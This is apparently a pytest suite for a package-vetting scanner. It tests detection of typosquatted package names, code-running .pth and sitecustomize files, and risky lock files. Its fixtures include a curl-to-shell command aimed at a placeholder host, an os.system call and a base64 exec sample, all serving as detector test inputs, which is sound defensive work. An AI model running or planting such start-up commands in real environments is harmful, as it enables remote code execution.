"""Names that imitate, files that run at start-up, and lock files that let something slip in."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sealwright.vetting.dependencies.lockfile import parse_lock
from sealwright.vetting.dependencies.lookalikes import examine, resembles
from sealwright.vetting.dependencies.startup import (
    examine_pth,
    examine_site,
    site_folders,
)
from sealwright.vetting.interface import Observation
from sealwright.vetting.scan import scan_paths

SETUPTOOLS = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
    "'local'; enabled and __import__('_distutils_hack').add_shim(); "
)


@pytest.mark.parametrize(
    ("name", "like"),
    [
        ("scikit-leam", "scikit-learn"),
        ("scikitlearn", "scikit-learn"),
        ("tensorfow", "tensorflow"),
        ("tensorflow-", "tensorflow"),
        ("nunpy", "numpy"),
        ("pnadas", "pandas"),
        ("torchvison", "torchvision"),
        ("xgbost", "xgboost"),
        ("rnatplotlib", "matplotlib"),
        ("matp1otlib", "matplotlib"),
        ("p\u0430ndas", "pandas"),
        ("hugging-face-hub", "huggingface-hub"),
    ],
)
def test_an_imitation_is_told(name: str, like: str) -> None:
    assert resembles(name) == like
    (seen,) = examine([name])
    assert (seen.rule.id, seen.rule.effect) == ("SW-DEP-020", "review")


@pytest.mark.parametrize(
    "name",
    ["numpy", "NumPy", "scikit_learn", "Scikit.Learn", "torch", "torchvision", "attrs", "attr",
     "boto", "boto3", "keras", "tf-keras", "xyz-internal-tool", "a", "", "x" * 500],
)  # fmt: skip
def test_well_known_and_unrelated_names_are_not(name: str) -> None:
    assert resembles(name) == ""


@given(st.text(max_size=40))
def test_any_name_is_answered(name: str) -> None:
    assert isinstance(resembles(name), str)


def ids(observations: tuple[Observation, ...]) -> list[str]:
    return [seen.rule.id for seen in observations]


def pth(text: str) -> list[str]:
    return ids(tuple(examine_pth(text.encode(), where="a.pth")))


def test_pth_lines_that_run_code_are_told() -> None:
    assert pth("/srv/project/src\n# import x\n\n../lib\n") == []
    assert pth(SETUPTOOLS) == []
    assert pth("import __editable___acme_1_0_finder; __editable___acme_1_0_finder.install()") == []
    assert pth("import acme") == ["SW-DEP-022"]
    assert pth("import\tacme") == ["SW-DEP-022"]
    assert "SW-DEP-022" in pth(SETUPTOOLS + "__import__('os').system('id')")
    hidden = pth("import base64; exec(base64.b64decode('cHJpbnQoMSk='))")
    assert hidden == ["SW-DEP-022", "SW-CODE-114"]
    assert pth("x" * (2 << 20)) == ["SW-DEP-023"]


def test_the_start_up_files_of_an_environment(tmp_path: Path) -> None:
    (tmp_path / "ok.pth").write_text("/srv\n")
    (tmp_path / "bad.pth").write_text("import os; os.system('curl http://x.invalid | sh')\n")
    (tmp_path / "sitecustomize.py").write_text("x = 1\n")
    (tmp_path / "sitecustomize").mkdir()
    found = tuple(examine_site([tmp_path, tmp_path / "gone"]))
    places = {(seen.rule.id, seen.finding.location) for seen in found}
    assert ("SW-DEP-022", "bad.pth:1") in places
    assert ("SW-CODE-120", "bad.pth:1") in places
    assert ("SW-DEP-022", "sitecustomize.py") in places
    assert tuple(examine_site(site_folders())) == ()


def wheel(path: Path, **files: str) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("acme/__init__.py", "")
        for name, text in files.items():
            archive.writestr(name.replace("__", "/").replace("_DOT_", "."), text)
    return path


def scanned(path: Path) -> set[str]:
    outcome = scan_paths([path], strict=True)
    return {outcome.verdict, *(seen.rule.id for seen in outcome.observations)}


def test_a_wheel_is_looked_at_before_it_is_installed(tmp_path: Path) -> None:
    assert scanned(wheel(tmp_path / "a.whl", a_DOT_pth="/srv/project/src\n")) == {"pass"}
    assert scanned(wheel(tmp_path / "b.whl", a_DOT_pth="import x")) == {"review", "SW-DEP-022"}
    inner = {"acme-1_DOT_data__purelib__sitecustomize_DOT_py": "x = 1"}
    assert scanned(wheel(tmp_path / "c.whl", **inner)) == {"review", "SW-DEP-022"}


def test_a_start_up_file_is_told_from_a_model_that_is_none(tmp_path: Path) -> None:
    place = tmp_path / "a.pth"
    place.write_text(SETUPTOOLS)
    assert scanned(place) == {"pass"}
    place.write_text("# paths\n../lib\nimport os; os.system('curl http://x.invalid | sh')\n")
    assert {"SW-DEP-022", "SW-CODE-120"} < scanned(place)
    place.write_text("<html>404 Not Found</html>\n")
    assert scanned(place) == {"inconclusive", "SW-TEXT-002"}
    place.write_text("/srv\n" * (1 << 19))
    assert scanned(place) == {"inconclusive", "SW-DEP-023"}


def test_locks_that_mix_indexes_or_build_from_source() -> None:
    digest = "a" * 64
    text = f"""
version = 1
[[package]]
name = "numpy"
version = "2.0.0"
source = {{ registry = "https://pypi.org/simple" }}
wheels = [{{ url = "u", hash = "sha256:{digest}" }}]
[[package]]
name = "ours"
version = "1.0"
source = {{ registry = "https://packages.example.org/simple" }}
sdist = {{ url = "u", hash = "sha256:{digest}" }}
"""
    lock = parse_lock(text.encode(), name="uv.lock")
    assert {seen.rule.id for seen in lock.observations} == {"SW-DEP-005", "SW-DEP-007"}
    loose = parse_lock(text.replace(digest, "b").encode(), name="uv.lock")
    assert "SW-DEP-006" in {seen.rule.id for seen in loose.observations}
    assert "example.org" not in str([seen.finding for seen in lock.observations])
